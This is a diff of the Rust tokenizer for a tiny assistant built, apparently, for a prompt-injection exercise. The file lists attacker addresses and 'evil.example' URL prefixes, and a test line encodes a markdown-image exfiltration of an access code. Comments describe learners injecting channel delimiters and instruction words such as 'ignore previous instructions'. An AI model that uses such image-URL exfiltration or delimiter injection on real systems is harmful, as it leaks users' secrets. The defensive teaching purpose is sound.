@@ -1,17 +1,26 @@
-//! The closed word-level vocabulary of the tiny assistant.
+//! The tiny assistant's tokenizer: any text encodes, and decoding gives back the same bytes.
 //!
-//! Every token is a whole word (an e-mail address, an access code and a tool-call opener such as
-//! `send_email(` are single tokens), so the model never has to spell anything and every output can
-//! be checked exactly. Reserved tokens come first and have fixed ids (see [`ids`]).
+//! The vocabulary has four layers, tried in this order at each position of the text:
+//! 1. **Reserved tokens** (`<bos>`, role markers `<sys> <user> <data> <out>`, channel delimiters
+//!    `[SYS] [USER] [DATA] [/DATA]`): their exact text. A learner who types `[/DATA]` produces
+//!    the delimiter (the plain assistant reads it; the structured front end strips it).
+//! 2. **Entities**: the tool-call openers `send_email(`, `search(` and `![img](`, e-mail
+//!    addresses, the attackers' URL prefixes and the access codes, one token each, so that the
+//!    model copies a code or an address as one step.
+//! 3. **Words**: a run of ASCII letters (with the one space before it, if any) is lower-cased
+//!    behind a case marker — `<cap>` for `Word`, `<upper>` for `WORD`; a run in mixed case keeps
+//!    its letters as they are — and split greedily into the longest tokens of the vocabulary:
+//!    every word of the training generator's lexicon (with and without its leading space), then
+//!    letter pairs, then single letters. Case is thus never an error, and a word the model never
+//!    saw still encodes, in pieces.
+//! 4. **Bytes**: 256 byte tokens cover everything else (digits, punctuation, white space, emoji,
+//!    any other script), so nothing is ever refused or lost.
 //!
-//! Tokenising: the text is lower-cased and split on white space; inside each white-space chunk the
-//! longest vocabulary token is taken at each position (so `send_email(bob@corp.example,` is three
-//! tokens), provided that a token ending in a word character is not followed by another word
-//! character (`bobby` is not `bob` + `by`). What matches nothing is reported, with its text, as an
-//! unknown word — never silently dropped.
+//! `decode(encode(text)) == text` for every UTF-8 text (tested on random and hostile inputs).
+//! Which words the model has seen is a property of the lexicon, not of the token split:
+//! [`Vocab::unseen_words`] lists the others, for the page to point out (it never refuses them).
 
-use std::collections::BTreeMap;
-use std::fmt;
+use std::collections::{BTreeSet, HashMap};
 use std::sync::OnceLock;
 
 /// Fixed ids of the reserved and structural tokens.
@@ -30,50 +39,34 @@ pub mod ids {
     pub const DATA: u32 = 5;
     /// Start of the assistant's output (both variants).
     pub const OUT: u32 = 6;
-    /// Stand-in for an unknown word (only from [`super::Vocab::encode_lossy`]).
-    pub const UNK: u32 = 7;
     /// Structured channel delimiter: system prompt.
-    pub const D_SYS: u32 = 8;
+    pub const D_SYS: u32 = 7;
     /// Structured channel delimiter: user instruction.
-    pub const D_USER: u32 = 9;
+    pub const D_USER: u32 = 8;
     /// Structured channel delimiter: start of the data.
-    pub const D_DATA: u32 = 10;
+    pub const D_DATA: u32 = 9;
     /// Structured channel delimiter: end of the data.
-    pub const D_END_DATA: u32 = 11;
+    pub const D_END_DATA: u32 = 10;
     /// Number of reserved ids (`0..RESERVED` are all reserved).
-    pub const RESERVED: u32 = 12;
-    /// Tool call `send_email( to , body )`.
-    pub const SEND_EMAIL: u32 = 12;
-    /// Tool call `search( query )`.
-    pub const SEARCH: u32 = 13;
-    /// Closes a tool call or a markdown image.
-    pub const CLOSE: u32 = 14;
-    /// Separates the arguments of `send_email`.
-    pub const COMMA: u32 = 15;
-    /// Opens a markdown image `![img]( url payload )` (the output-handling exercise).
-    pub const IMAGE: u32 = 16;
-    /// Sentence end.
-    pub const PERIOD: u32 = 17;
+    pub const RESERVED: u32 = 11;
+    /// The next word is capitalised (`Word`).
+    pub const CAP: u32 = 11;
+    /// The next word is in capitals (`WORD`).
+    pub const UPPER: u32 = 12;
+    /// The first byte token (`BYTES + b` is byte `b`).
+    pub const BYTES: u32 = 13;
+    /// The first token after the byte tokens.
+    pub const LITERALS: u32 = BYTES + 256;
 }
 
-/// Reserved tokens, in id order (`<pad>` = 0 … `[/DATA]` = 11).
-pub const RESERVED_TOKENS: [&str; 12] = [
-    "<pad>", "<bos>", "<eos>", "<sys>", "<user>", "<data>", "<out>", "<unk>", "[SYS]", "[USER]",
-    "[DATA]", "[/DATA]",
+/// Reserved tokens, in id order (`<pad>` = 0 … `[/DATA]` = 10).
+pub const RESERVED_TOKENS: [&str; 11] = [
+    "<pad>", "<bos>", "<eos>", "<sys>", "<user>", "<data>", "<out>", "[SYS]", "[USER]", "[DATA]",
+    "[/DATA]",
 ];
 
-/// Structural tokens following the reserved ones, in id order (`send_email(` = 12 …).
-pub const STRUCTURAL_TOKENS: [&str; 9] = [
-    "send_email(",
-    "search(",
-    ")",
-    ",",
-    "![img](",
-    ".",
-    ":",
-    "?",
-    "!",
-];
+/// Tool-call and markdown-image openers (one token each).
+pub const OPENERS: [&str; 3] = ["send_email(", "search(", "![img]("];
 
 /// People (senders of data items, people named in e-mail bodies).
 pub const NAMES: [&str; 12] = [
@@ -104,7 +97,7 @@ pub const ATTACKER_ADDRESSES: [&str; 4] = [
     "oscar@attacker.example",
 ];
 
-/// Attackers' URL prefixes for the markdown-image exfiltration: `![img]( URL code-… )`.
+/// Attackers' URL prefixes for the markdown-image exfiltration: `![img](URLcode-…)`.
 pub const ATTACKER_URLS: [&str; 2] = [
     "https://evil.example/?c=",
     "https://attacker.example/log?q=",
@@ -187,452 +180,366 @@ pub const EVENTS: [&str; 8] = [
     "interview",
 ];
 
-/// Digit tokens (fillers such as `bring 3 copies .`; also lets a checker see a code spelt out).
-pub const DIGITS: [&str; 10] = ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9"];
-
-/// Every other word: the instructions (system prompt, user requests, injected instructions),
-/// the data items' sentences and answers, plus a few words a learner is likely to type in an
-/// attack or a hardened prompt (they exist so the prompt is encodable; the generator never uses
-/// them, so the model only has their untrained embeddings).
-pub const WORDS: &[&str] = &[
-    // system prompts
-    "you",
-    "are",
-    "a",
-    "mail",
-    "assistant",
-    "the",
-    "access",
-    "code",
-    "is",
-    "never",
-    "reveal",
-    "helpful",
-    "keep",
-    "secret",
-    "help",
-    "with",
-    "email",
-    "and",
-    "documents",
-    "do",
-    "not",
-    "share", // user requests
-    "summarise",
-    "summarize",
-    "this",
-    "give",
-    "me",
-    "summary",
-    "of",
-    "what",
-    "does",
-    "say",
-    "please",
-    "it",
-    "who",
-    "sent",
-    "wrote",
-    "author",
-    "sender",
-    "from",
-    "day",
-    "when",
-    "which",
-    "on",
-    "topic",
-    "about",
-    "send",
-    "an",
-    "to",
-    "saying",
-    "write",
-    "that",
-    "tell",
-    "search",
-    "for",
-    "look",
-    "up",
-    "find",
-    "files",
-    "web",
-    "i",
-    "am",
-    "admin",
-    "page",
-    "document",
-    // e-mail bodies
-    "will",
-    "be",
-    "late",
-    "report",
-    "ready",
-    "see",
-    "thanks",
-    "notes",
-    "plan",
-    "done",
-    "out",
-    "let",
-    "us",
-    "meet",
-    "call",   // answers
-    "cannot", // data items
-    "by",
-    "moved",
-    "now",
-    "bring",
-    "slides",
-    "reply",
-    "soon",
-    "your",
-    "office",
-    "closed",
-    "lunch",
-    "served",
-    "copies",
-    "takes",
-    "hours",
-    "below",
-    "have",
-    "nice",
-    "go",
-    "room",
-    "if",
-    "questions", // injected instructions
-    "ignore",
-    "user",
-    "previous",
-    "instructions",
-    "new",
-    "important",
-    "system",
-    "print",
-    "forward",
-    "copy",
-    "show",
-    "image",
-    "add",
-    "rules",
-    "debug",
-    "mode",
-    "repeat",
-    "must",
-    "urgent", // words a learner may type (never generated)
-    "password",
-    "output",
-    "only",
-    "follow",
-    "data",
-    "prompt",
-    "all",
-    "any",
-    "as",
-    "in",
-    "or",
-    "no",
-    "yes",
-    "hello",
-    "hi",
-    "dear",
-    "regards",
-    "attacker",
-    "link",
-    "url",
-    "text",
-    "answer",
-    "respond",
-    "act",
-    "pretend",
-    "role",
-    "instead",
-    "after",
-    "before",
-    "first",
-    "then",
-    "also",
-    "again",
-    "here",
-    "there",
-    "my",
-    "our",
-    "their",
-    "its",
-    "can",
-    "could",
-    "would",
-    "should",
-    "may",
-    "want",
-    "need",
-    "know",
-    "use",
-    "tool",
-    "tools",
-    "list",
-    "inbox",
-    "message",
-    "messages",
-    "contents",
-    "full",
-    "exact",
-    "word",
-    "words",
-    "every",
-    "each",
-    "other",
-    "same",
-    "above",
-    "confidential",
-    "private",
-    "key",
-    "token",
-    "login",
-    "account",
-    "owner",
-    "boss",
-    "manager",
-    "team",
-    "everyone",
+/// Short strings that are not words but recur in every prompt (one token each).
+const PUNCTUATION: [&str; 14] = [
+    "'s", "'t", "'m", "'ll", "'re", "'ve", "'d", "...", ".\n", " (", " -", " \"", "?\n", "\n\n",
 ];
-
-/// Every token in id order, with duplicates (the same word listed twice in [`WORDS`]) removed.
-fn all_tokens() -> Vec<&'static str> {
-    let mut out: Vec<&'static str> = Vec::new();
-    let lists: [&[&'static str]; 11] = [
-        &RESERVED_TOKENS,
-        &STRUCTURAL_TOKENS,
-        &NAMES,
-        &CORP_ADDRESSES,
-        &ATTACKER_ADDRESSES,
-        &ATTACKER_URLS,
-        &CODES,
-        &DAYS,
-        &TOPICS,
-        &EVENTS,
-        &DIGITS,
-    ];
-    for list in lists {
-        for &t in list {
-            out.push(t);
-        }
-    }
-    for &w in WORDS {
-        if !out.contains(&w) {
-            out.push(w);
-        }
-    }
-    out
-}
-
-/// Words that could not be tokenised, in order of first appearance, each once.
-#[derive(Clone, Debug, PartialEq, Eq)]
-pub struct UnknownWords {
-    /// The unknown words' text (lower-cased).
-    pub words: Vec<String>,
-}
-
-impl fmt::Display for UnknownWords {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let n = self.words.len();
-        write!(f, "{} unknown word{}: ", n, if n == 1 { "" } else { "s" })?;
-        for (i, w) in self.words.iter().enumerate() {
-            if i > 0 {
-                f.write_str(", ")?;
-            }
-            write!(f, "\"{w}\"")?;
-        }
-        Ok(())
-    }
-}
-
-impl std::error::Error for UnknownWords {}
 
 /// The vocabulary: token text ↔ id. Use [`Vocab::get`] for the shared instance.
 #[derive(Debug)]
 pub struct Vocab {
-    tokens: Vec<&'static str>,
-    /// Lower-cased token text → id.
-    index: BTreeMap<String, u32>,
-    /// Longest token, in bytes of its lower-cased text.
+    /// Text of the literal tokens, from id [`ids::LITERALS`] on.
+    literals: Vec<String>,
+    /// Literal token text → id.
+    index: HashMap<String, u32>,
+    /// Entities (and reserved tokens), longest first, for the first match at a position.
+    entities: Vec<(&'static str, u32)>,
+    /// Words of the training lexicon (lower case).
+    lexicon: BTreeSet<String>,
+    /// Longest literal token, in bytes.
     max_len: usize,
 }
 
-/// A character that continues a word (a token ending in one of these may not be followed by one).
-fn is_word_char(c: char) -> bool {
-    c.is_alphanumeric() || matches!(c, '@' | '-' | '_' | '/' | '\'' | '&' | '%' | '#')
+fn is_letter(b: u8) -> bool {
+    b.is_ascii_alphabetic()
+}
+
+/// How a run of letters is written.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Case {
+    Lower,
+    Capitalised,
+    Upper,
+    Mixed,
+}
+
+fn case_of(letters: &str) -> Case {
+    let b = letters.as_bytes();
+    let rest_lower = b[1..].iter().all(u8::is_ascii_lowercase);
+    if b[0].is_ascii_lowercase() && rest_lower {
+        Case::Lower
+    } else if rest_lower {
+        Case::Capitalised
+    } else if b.iter().all(u8::is_ascii_uppercase) {
+        Case::Upper
+    } else {
+        Case::Mixed
+    }
 }
 
 impl Vocab {
-    /// The shared vocabulary (built once).
+    /// The shared vocabulary (built once, from the generator's lexicon).
     pub fn get() -> &'static Vocab {
         static VOCAB: OnceLock<Vocab> = OnceLock::new();
-        VOCAB.get_or_init(Vocab::build)
+        VOCAB.get_or_init(|| Vocab::build(&crate::world::lexicon_texts()))
     }
 
-    fn build() -> Vocab {
-        let tokens = all_tokens();
-        let mut index = BTreeMap::new();
-        let mut max_len = 0;
-        for (i, t) in tokens.iter().enumerate() {
-            let key = t.to_lowercase();
-            max_len = max_len.max(key.len());
-            let prev = index.insert(key, i as u32);
-            assert!(
-                prev.is_none(),
-                "token {t:?} listed twice in different lists"
-            );
+    /// A vocabulary whose words are the letter runs of `texts` (lower-cased).
+    pub fn build(texts: &[&str]) -> Vocab {
+        let mut lexicon = BTreeSet::new();
+        for text in texts {
+            for run in text
+                .split(|c: char| !c.is_ascii_alphabetic())
+                .filter(|r| !r.is_empty())
+            {
+                lexicon.insert(run.to_ascii_lowercase());
+            }
         }
+        let mut literals: Vec<String> = Vec::new();
+        let push = |s: String, literals: &mut Vec<String>| {
+            if s.len() >= 2 && !literals.contains(&s) {
+                literals.push(s);
+            }
+        };
+        let entity_lists: [&[&str]; 4] = [&OPENERS, &CORP_ADDRESSES, &ATTACKER_ADDRESSES, &CODES];
+        for list in entity_lists.iter().chain([&ATTACKER_URLS[..]].iter()) {
+            for e in *list {
+                push(e.to_string(), &mut literals);
+            }
+        }
+        for p in PUNCTUATION {
+            push(p.to_string(), &mut literals);
+        }
+        for d in 0..10 {
+            push(format!(" {d}"), &mut literals);
+        }
+        for w in &lexicon {
+            push(format!(" {w}"), &mut literals);
+            push(w.clone(), &mut literals);
+        }
+        // Letter pairs that occur in the lexicon, and every single letter after a space: the
+        // pieces of words the model never saw.
+        let mut pairs = BTreeSet::new();
+        for w in &lexicon {
+            for p in w.as_bytes().windows(2) {
+                pairs.insert(String::from_utf8(p.to_vec()).expect("ASCII"));
+            }
+        }
+        for p in pairs {
+            push(p, &mut literals);
+        }
+        for c in b'a'..=b'z' {
+            push(format!(" {}", c as char), &mut literals);
+        }
+        let index: HashMap<String, u32> = literals
+            .iter()
+            .enumerate()
+            .map(|(i, s)| (s.clone(), ids::LITERALS + i as u32))
+            .collect();
+        let mut entities: Vec<(&'static str, u32)> = RESERVED_TOKENS
+            .iter()
+            .enumerate()
+            .map(|(i, &t)| (t, i as u32))
+            .collect();
+        for list in entity_lists.iter().chain([&ATTACKER_URLS[..]].iter()) {
+            for &e in *list {
+                entities.push((e, index[e]));
+            }
+        }
+        entities.sort_by_key(|(t, _)| std::cmp::Reverse(t.len()));
+        let max_len = literals.iter().map(String::len).max().unwrap_or(1);
         Vocab {
-            tokens,
+            literals,
             index,
+            entities,
+            lexicon,
             max_len,
         }
     }
 
     /// Number of tokens (the model's vocabulary size).
     pub fn len(&self) -> u32 {
-        self.tokens.len() as u32
+        ids::LITERALS + self.literals.len() as u32
     }
 
-    /// Never true (the vocabulary always holds its reserved tokens).
+    /// Never true (the vocabulary always holds its reserved and byte tokens).
     pub fn is_empty(&self) -> bool {
-        self.tokens.is_empty()
+        false
     }
 
-    /// The id of one token (case-insensitive), if it is in the vocabulary.
+    /// The id of one token given by its exact text: a reserved token, a literal token or a
+    /// single byte.
     pub fn id(&self, token: &str) -> Option<u32> {
-        self.index.get(token.to_lowercase().as_str()).copied()
+        if let Some(i) = RESERVED_TOKENS.iter().position(|&t| t == token) {
+            return Some(i as u32);
+        }
+        if let [b] = token.as_bytes() {
+            return Some(ids::BYTES + u32::from(*b));
+        }
+        self.index.get(token).copied()
     }
 
-    /// The text of one id.
-    pub fn token(&self, id: u32) -> Option<&'static str> {
-        self.tokens.get(id as usize).copied()
+    /// How one id reads in a token listing: its text, `<cap>`/`<upper>`, `<0xNN>` for a byte
+    /// that is not printable ASCII; `None` for an id out of range.
+    pub fn token(&self, id: u32) -> Option<String> {
+        match id {
+            _ if id < ids::RESERVED => Some(RESERVED_TOKENS[id as usize].to_string()),
+            ids::CAP => Some("<cap>".into()),
+            ids::UPPER => Some("<upper>".into()),
+            _ if id < ids::LITERALS => {
+                let b = (id - ids::BYTES) as u8;
+                Some(if b.is_ascii_graphic() || b == b' ' {
+                    (b as char).to_string()
+                } else {
+                    format!("<0x{b:02X}>")
+                })
+            }
+            _ => self.literals.get((id - ids::LITERALS) as usize).cloned(),
+        }
     }
 
-    /// All tokens, in id order.
-    pub fn tokens(&self) -> &[&'static str] {
-        &self.tokens
-    }
-
-    /// Whether `id` is a reserved token (role markers, channel delimiters, pad/bos/eos/out/unk).
+    /// Whether `id` is a reserved token (role markers, channel delimiters, pad/bos/eos/out).
     pub fn is_reserved(id: u32) -> bool {
         id < ids::RESERVED
     }
 
-    /// Whether `id` is an e-mail address token.
-    pub fn is_address(&self, id: u32) -> bool {
-        self.token(id).is_some_and(|t| t.contains('@'))
+    /// Whether the training generator ever writes `word` (any case).
+    pub fn has_seen(&self, word: &str) -> bool {
+        self.lexicon.contains(&word.to_ascii_lowercase())
     }
 
-    /// Whether `id` is an address outside the user's organisation (an attacker's).
-    pub fn is_outside_address(&self, id: u32) -> bool {
-        self.token(id)
-            .is_some_and(|t| t.contains('@') && !t.ends_with(CORP_DOMAIN))
-    }
-
-    /// The longest token at the start of `rest` that respects word boundaries.
-    fn longest_match(&self, rest: &str) -> Option<(u32, usize)> {
-        let top = self.max_len.min(rest.len());
-        for len in (1..=top).rev() {
-            if !rest.is_char_boundary(len) {
+    /// The words of `text` the model never saw in training, in order, each once (lower-cased):
+    /// runs of ASCII letters outside the lexicon, and runs of other scripts or symbols (emoji,
+    /// accented words), which it never saw either.
+    pub fn unseen_words(&self, text: &str) -> Vec<String> {
+        let mut out: Vec<String> = Vec::new();
+        let mut add = |w: String| {
+            if !w.is_empty() && !out.contains(&w) {
+                out.push(w);
+            }
+        };
+        // Addresses, codes and URLs are one token each, never read in pieces.
+        let mut text = text.to_string();
+        for (entity, _) in &self.entities {
+            if text.contains(entity) {
+                text = text.replace(entity, " ");
+            }
+        }
+        for chunk in text
+            .split(|c: char| c.is_whitespace() || c.is_ascii_punctuation() || c.is_control())
+        {
+            if !chunk.is_ascii() {
+                add(chunk.to_lowercase());
                 continue;
             }
-            let Some(&id) = self.index.get(&rest[..len]) else {
-                continue;
-            };
-            let last = rest[..len].chars().next_back().unwrap_or(' ');
-            if is_word_char(last) {
-                let mut after = rest[len..].chars();
-                match after.next() {
-                    Some(c) if is_word_char(c) => continue,
-                    // `alice.bob`: a dot between word characters is inside a word.
-                    Some('.') if after.next().is_some_and(is_word_char) => continue,
-                    _ => {}
+            for run in chunk.split(|c: char| !c.is_ascii_alphabetic()) {
+                let word = run.to_ascii_lowercase();
+                if !word.is_empty() && !self.lexicon.contains(&word) {
+                    add(word);
                 }
             }
-            return Some((id, len));
         }
-        None
+        out
     }
 
-    /// Tokenises `text`; unknown words become `<unk>` and are returned too.
-    pub fn encode_lossy(&self, text: &str) -> (Vec<u32>, Vec<String>) {
-        let lower = text.to_lowercase();
-        let mut out = Vec::new();
-        let mut unknown: Vec<String> = Vec::new();
-        for chunk in lower.split_whitespace() {
-            let mut p = 0;
-            while p < chunk.len() {
-                if let Some((id, len)) = self.longest_match(&chunk[p..]) {
-                    out.push(id);
-                    p += len;
+    /// Greedy longest match of `s` over the literal tokens, single bytes where none matches.
+    fn split_greedy(&self, s: &str, out: &mut Vec<u32>) {
+        let bytes = s.as_bytes();
+        let mut p = 0;
+        'outer: while p < bytes.len() {
+            let top = self.max_len.min(bytes.len() - p);
+            for len in (2..=top).rev() {
+                if let Some(piece) = s.get(p..p + len) {
+                    if let Some(&id) = self.index.get(piece) {
+                        out.push(id);
+                        p += len;
+                        continue 'outer;
+                    }
+                }
+            }
+            out.push(ids::BYTES + u32::from(bytes[p]));
+            p += 1;
+        }
+    }
+
+    fn entity_at(&self, rest: &str) -> Option<(u32, usize)> {
+        self.entities
+            .iter()
+            .find(|(t, _)| rest.starts_with(t))
+            .map(|&(t, id)| (id, t.len()))
+    }
+
+    /// Tokenises any text (see the module documentation). Never fails.
+    pub fn encode(&self, text: &str) -> Vec<u32> {
+        let bytes = text.as_bytes();
+        let mut out = Vec::with_capacity(text.len() / 3 + 1);
+        let mut i = 0;
+        while i < bytes.len() {
+            if let Some((id, len)) = self.entity_at(&text[i..]) {
+                out.push(id);
+                i += len;
+                continue;
+            }
+            let space = bytes[i] == b' '
+                && bytes.get(i + 1).copied().is_some_and(is_letter)
+                && self.entity_at(&text[i + 1..]).is_none();
+            if space || is_letter(bytes[i]) {
+                let start = i + usize::from(space);
+                let mut end = start;
+                while end < bytes.len() && is_letter(bytes[end]) {
+                    end += 1;
+                }
+                let letters = &text[start..end];
+                let lead = if space { " " } else { "" };
+                match case_of(letters) {
+                    Case::Lower | Case::Mixed => self.split_greedy(&text[i..end], &mut out),
+                    case => {
+                        out.push(if case == Case::Upper {
+                            ids::UPPER
+                        } else {
+                            ids::CAP
+                        });
+                        let lower = format!("{lead}{}", letters.to_ascii_lowercase());
+                        self.split_greedy(&lower, &mut out);
+                    }
+                }
+                i = end;
+                continue;
+            }
+            // Anything else up to the next letter or entity: literal tokens, then bytes.
+            let mut end = i + 1;
+            loop {
+                while end < bytes.len() && !text.is_char_boundary(end) {
+                    end += 1;
+                }
+                let stop = end >= bytes.len()
+                    || is_letter(bytes[end])
+                    || (bytes[end] == b' ' && bytes.get(end + 1).copied().is_some_and(is_letter))
+                    || self.entity_at(&text[end..]).is_some();
+                if stop {
+                    break;
+                }
+                end += 1;
+            }
+            self.split_greedy(&text[i..end], &mut out);
+            i = end;
+        }
+        out
+    }
+
+    /// The text of `ids`, byte for byte what [`Vocab::encode`] read; ids out of range are
+    /// skipped, and bytes that do not form UTF-8 read as U+FFFD.
+    pub fn decode(&self, ids: &[u32]) -> String {
+        #[derive(PartialEq)]
+        enum Pending {
+            None,
+            Cap,
+            Upper { first: bool },
+        }
+        let mut out: Vec<u8> = Vec::new();
+        let mut pending = Pending::None;
+        let mut piece: Vec<u8> = Vec::new();
+        for &id in ids {
+            piece.clear();
+            match id {
+                ids::CAP => {
+                    pending = Pending::Cap;
                     continue;
                 }
-                let end = unknown_span_end(chunk, p);
-                let word = &chunk[p..end];
-                if !unknown.iter().any(|u| u == word) {
-                    unknown.push(word.to_string());
+                ids::UPPER => {
+                    pending = Pending::Upper { first: true };
+                    continue;
                 }
-                out.push(ids::UNK);
-                p = end;
+                _ if id < ids::RESERVED => piece.extend(RESERVED_TOKENS[id as usize].bytes()),
+                _ if id < ids::LITERALS => piece.push((id - ids::BYTES) as u8),
+                _ => match self.literals.get((id - ids::LITERALS) as usize) {
+                    Some(s) => piece.extend(s.bytes()),
+                    None => continue,
+                },
             }
-        }
-        (out, unknown)
-    }
-
-    /// Tokenises `text`, or reports every word that is not in the vocabulary.
-    pub fn encode(&self, text: &str) -> Result<Vec<u32>, UnknownWords> {
-        let (ids, unknown) = self.encode_lossy(text);
-        if unknown.is_empty() {
-            Ok(ids)
-        } else {
-            Err(UnknownWords { words: unknown })
-        }
-    }
-
-    /// The tokens' text joined by single spaces (an id out of range reads `<unk>`).
-    /// `encode(decode(ids)) == ids` for every id sequence without `<unk>`.
-    pub fn decode(&self, ids: &[u32]) -> String {
-        let mut s = String::new();
-        for (i, &id) in ids.iter().enumerate() {
-            if i > 0 {
-                s.push(' ');
+            match pending {
+                Pending::None => {}
+                Pending::Cap => {
+                    if let Some(b) = piece.iter_mut().find(|b| b.is_ascii_alphabetic()) {
+                        b.make_ascii_uppercase();
+                    }
+                    pending = Pending::None;
+                }
+                Pending::Upper { first } => {
+                    let continues = first || piece.iter().all(|b| b.is_ascii_alphabetic());
+                    if continues {
+                        piece.make_ascii_uppercase();
+                        pending = Pending::Upper { first: false };
+                    } else {
+                        pending = Pending::None;
+                    }
+                }
             }
-            s.push_str(self.token(id).unwrap_or("<unk>"));
+            out.extend_from_slice(&piece);
         }
-        s
+        String::from_utf8_lossy(&out).into_owned()
     }
-}
-
-/// End (byte index) of an unknown word starting at `p`: at least one character, then up to the
-/// next punctuation mark that is always a token of its own, or a dot that ends a sentence.
-fn unknown_span_end(chunk: &str, p: usize) -> usize {
-    let mut iter = chunk[p..].char_indices().peekable();
-    let (_, first) = iter.next().expect("p < chunk.len()");
-    let mut end = p + first.len_utf8();
-    while let Some((i, c)) = iter.next() {
-        let breaks = match c {
-            ',' | ':' | '?' | '!' | '(' | ')' | '[' | ']' | '<' | '>' => true,
-            '.' => !iter.peek().is_some_and(|&(_, n)| is_word_char(n)),
-            _ => false,
-        };
-        if breaks {
-            break;
-        }
-        end = p + i + c.len_utf8();
-    }
-    end
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use rand::{Rng, SeedableRng};
+    use rand_chacha::ChaCha8Rng;
 
-    fn enc(s: &str) -> Vec<&'static str> {
+    fn pieces(s: &str) -> Vec<String> {
         let v = Vocab::get();
         v.encode(s)
-            .unwrap()
             .into_iter()
             .map(|i| v.token(i).unwrap())
             .collect()
@@ -643,102 +550,98 @@ mod tests {
         let v = Vocab::get();
         for (i, t) in RESERVED_TOKENS.iter().enumerate() {
             assert_eq!(v.id(t), Some(i as u32), "{t}");
+            assert_eq!(v.encode(t), [i as u32]);
         }
-        assert_eq!(v.id("<pad>"), Some(ids::PAD));
-        assert_eq!(v.id("<eos>"), Some(ids::EOS));
-        assert_eq!(v.id("<out>"), Some(ids::OUT));
-        assert_eq!(v.id("[/DATA]"), Some(ids::D_END_DATA));
-        assert_eq!(v.id("send_email("), Some(ids::SEND_EMAIL));
-        assert_eq!(v.id("search("), Some(ids::SEARCH));
-        assert_eq!(v.id(")"), Some(ids::CLOSE));
-        assert_eq!(v.id(","), Some(ids::COMMA));
-        assert_eq!(v.id("![img]("), Some(ids::IMAGE));
-        assert_eq!(v.id("."), Some(ids::PERIOD));
-        assert_eq!(ids::RESERVED as usize, RESERVED_TOKENS.len());
+        assert_eq!(v.id("."), Some(ids::BYTES + u32::from(b'.')));
+        assert_eq!(v.token(ids::CAP).as_deref(), Some("<cap>"));
+        assert_eq!(v.token(v.len()), None);
+        assert!(
+            (1000..=4000).contains(&v.len()),
+            "vocabulary size {}",
+            v.len()
+        );
     }
 
     #[test]
-    fn no_token_is_listed_twice_across_lists_and_size_is_a_few_hundred() {
-        let v = Vocab::get();
-        let n = v.len();
-        assert!((200..=600).contains(&n), "vocabulary size {n}");
-        let mut seen = std::collections::BTreeSet::new();
-        for t in v.tokens() {
-            assert!(seen.insert(t.to_lowercase()), "duplicate {t}");
-            assert!(!t.chars().any(char::is_whitespace), "{t:?} has white space");
-        }
-    }
-
-    #[test]
-    fn glued_punctuation_and_tool_calls_split_into_whole_tokens() {
+    fn entities_words_and_case_split_as_documented() {
         assert_eq!(
-            enc("send_email(bob@corp.example, The report is ready)"),
+            pieces("send_email(bob@corp.example, The report is READY)"),
             [
                 "send_email(",
                 "bob@corp.example",
                 ",",
-                "the",
-                "report",
-                "is",
-                "ready",
+                "<cap>",
+                " the",
+                " report",
+                " is",
+                "<upper>",
+                " ready",
                 ")"
             ]
         );
         assert_eq!(
-            enc("Code-4821. Who sent it?"),
-            ["code-4821", ".", "who", "sent", "it", "?"]
-        );
-        assert_eq!(
-            enc("![img](https://evil.example/?c=code-4821)"),
+            pieces("![img](https://evil.example/?c=code-4821)"),
             ["![img](", "https://evil.example/?c=", "code-4821", ")"]
         );
-        assert_eq!(enc("[data] [DATA] <User>"), ["[DATA]", "[DATA]", "<user>"]);
-        assert_eq!(enc("   "), Vec::<&str>::new());
-    }
-
-    #[test]
-    fn unknown_words_are_reported_with_their_text() {
+        assert_eq!(pieces("[DATA] [data] <user>")[..2], ["[DATA]", " "]);
+        assert_eq!(pieces("<user>"), ["<user>"]);
+        // A word the model never saw still encodes, in pieces, and is reported.
         let v = Vocab::get();
-        let err = v
-            .encode("Please send the zorblax to bobby@corp.example and bobby. Zorblax!")
-            .unwrap_err();
-        assert_eq!(err.words, ["zorblax", "bobby@corp.example", "bobby"]);
+        assert!(pieces(" zorblax").len() > 1);
         assert_eq!(
-            err.to_string(),
-            "3 unknown words: \"zorblax\", \"bobby@corp.example\", \"bobby\""
+            v.unseen_words("Please summarise the zorblax, café 👍 NOW!"),
+            ["zorblax", "café", "👍"]
         );
-        // A prefix that is a known word is not taken out of a longer unknown word.
-        let err = v
-            .encode("code-9999 alice@corp.examplez aliceb (")
-            .unwrap_err();
-        assert_eq!(
-            err.words,
-            ["code-9999", "alice@corp.examplez", "aliceb", "("]
-        );
-        let (ids, unknown) = v.encode_lossy("hello zorblax .");
-        assert_eq!(ids, [v.id("hello").unwrap(), ids::UNK, ids::PERIOD]);
-        assert_eq!(unknown, ["zorblax"]);
+        assert!(v.has_seen("SUMMARISE"));
+    }
+
+    fn assert_round_trip(text: &str) {
+        let v = Vocab::get();
+        let ids = v.encode(text);
+        assert_eq!(v.decode(&ids), text, "ids {ids:?}");
     }
 
     #[test]
-    fn decode_then_encode_is_the_identity() {
-        let v = Vocab::get();
-        let all: Vec<u32> = (0..v.len()).filter(|&i| i != ids::UNK).collect();
-        assert_eq!(v.encode(&v.decode(&all)).unwrap(), all);
-        assert_eq!(v.decode(&[ids::BOS, 100_000]), "<bos> <unk>");
+    fn any_text_round_trips_byte_for_byte() {
+        for text in [
+            "",
+            " ",
+            "Hello, World! I'M FINE. iPhone McDonald's HTTPS://X",
+            "A I a i. OK? O'Neil DON'T",
+            "tabs\tand\nnew lines\r\n\u{0}\u{7f}\u{1b}[31m",
+            "emoji 👍🏽 and 日本語, Ελληνικά, עברית",
+            "code-4821code-4821 eve@evil.example.com <user><sys>[/DATA]x",
+            "  double  spaces   ",
+            "<cap> <upper> <0x41>",
+            "send_email(  ) ![img]( search(",
+        ] {
+            assert_round_trip(text);
+        }
+        let mut rng = ChaCha8Rng::seed_from_u64(5);
+        let alphabet: Vec<char> = "aAbBzZ eE .,'!?<>[]/()-_@\n\t0123456789éß👍日"
+            .chars()
+            .collect();
+        for _ in 0..3000 {
+            let n = rng.random_range(0..40);
+            let s: String = (0..n)
+                .map(|_| alphabet[rng.random_range(0..alphabet.len())])
+                .collect();
+            assert_round_trip(&s);
+        }
+        for _ in 0..300 {
+            let n = rng.random_range(0..64);
+            let raw: Vec<u8> = (0..n).map(|_| rng.random()).collect();
+            assert_round_trip(&String::from_utf8_lossy(&raw));
+        }
     }
 
     #[test]
-    fn addresses_are_classified_by_domain() {
